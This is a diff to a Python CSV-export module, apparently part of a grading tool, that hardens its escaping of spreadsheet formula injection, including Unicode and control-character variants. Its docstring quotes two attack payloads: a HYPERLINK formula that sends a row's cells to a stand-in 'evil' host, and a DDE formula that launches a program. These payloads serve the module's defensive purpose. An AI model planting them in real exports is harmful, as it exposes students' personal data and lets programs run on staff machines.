@@ -2,12 +2,17 @@
 canvas-missing.csv) is written here, so that it is safe to open in a spreadsheet.
 
 Students choose their file names and, in a Gradescope export, their names, SIDs and emails. A cell that
-starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and Google Sheets (and a tab or
-carriage return before one is skipped): ``=HYPERLINK("http://evil/?"&E2&F2,"click")`` sends the row's
-cells away when a TA clicks it, ``+1+cmd|' /C calc'!A0`` (DDE) starts a program. As OWASP advises
-(https://owasp.org/www-community/attacks/CSV_Injection), such a text cell gets a leading ``'``, which
-spreadsheets read as "this is text". Numbers are told apart by type, never by how they read: a score the
-project computed is a float and is written as one (-1.5 stays -1.5), while the text "-1.5" is escaped.
+starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and Google Sheets, and they skip
+whitespace and control characters before one: ``=HYPERLINK("http://evil/?"&E2&F2,"click")`` sends the row's
+cells away when a TA clicks it, ``+1+cmd|' /C calc'!A0`` (DDE) starts a program. As OWASP
+(https://owasp.org/www-community/attacks/CSV_Injection) and ASVS (5.0, V1.2.10) advise, such a text cell
+gets a leading ``'``, which spreadsheets read as "this is text": a cell whose first character is a formula
+character, in any of its Unicode forms (the fullwidth ``＝``, the small ``﹢``: whatever NFKC folds to one),
+or is whitespace or a control, format or separator character (tab, carriage return, line feed, NUL, vertical
+tab, no-break space, a zero-width space), whatever follows it. Every text cell also passes the text rule
+(text.py): no control or invisible character reaches a file. Numbers are told apart by type, never by how
+they read: a score the project computed is a float and is written as one (-1.5 stays -1.5), while the text
+"-1.5" is escaped.
 
 IDs that another system matches on (Canvas's ID columns) must never change, since the ``'`` would break
 the match: callers check them with needs_escape() and leave out what fails (canvas.py) instead.
@@ -17,20 +22,28 @@ from __future__ import annotations
 
 import csv
 import io
+import unicodedata
 from collections.abc import Iterable, Mapping, Sequence
 from pathlib import Path
 
-from ..results import write_atomically
+from ..owned import write_private
+from ..text import plain_text
 
 Cell = str | int | float | None
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-FORMULA_WORDS = "a formula character (=, +, -, @, tab or carriage return)"  # FORMULA_STARTS, for messages
+FORMULA_STARTS = ("=", "+", "-", "@")  # and their other Unicode forms (NFKC), and any leading blank or control
+FORMULA_WORDS = ("a formula character (=, +, -, @, or a fullwidth form of one), or whitespace or a control "
+                 "character")  # what needs_escape() refuses, for messages
 BOM = "\ufeff"  # spreadsheets then read the file as UTF-8 (names with accents)
 
 
 def needs_escape(text: str) -> bool:
-    """Whether a spreadsheet would read this text as a formula."""
-    return text.lstrip(" ").startswith(FORMULA_STARTS)  # some spreadsheets skip leading spaces too
+    """Whether a spreadsheet could read this text as a formula: its first character starts one, or is one a
+    spreadsheet may skip before a formula (whitespace, a control, format or separator character)."""
+    if not text:
+        return False
+    first = text[0]
+    return (first.isspace() or unicodedata.category(first)[0] in "CZ"
+            or unicodedata.normalize("NFKC", first)[:1] in FORMULA_STARTS)
 
 
 def safe_cell(value: Cell) -> str:
@@ -45,7 +58,7 @@ def safe_cell(value: Cell) -> str:
         return f"{value:g}"
     if isinstance(value, int) and not isinstance(value, bool):
         return str(value)
-    text = str(value)
+    text = plain_text(str(value))
     return "'" + text if needs_escape(text) else text
 
 
@@ -58,4 +71,4 @@ def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[Cell] |
     for row in rows:
         cells = [row.get(name) for name in header] if isinstance(row, Mapping) else row
         writer.writerow([safe_cell(cell) for cell in cells])
-    write_atomically(path, (BOM + buffer.getvalue()).encode())
+    write_private(path, (BOM + buffer.getvalue()).encode())
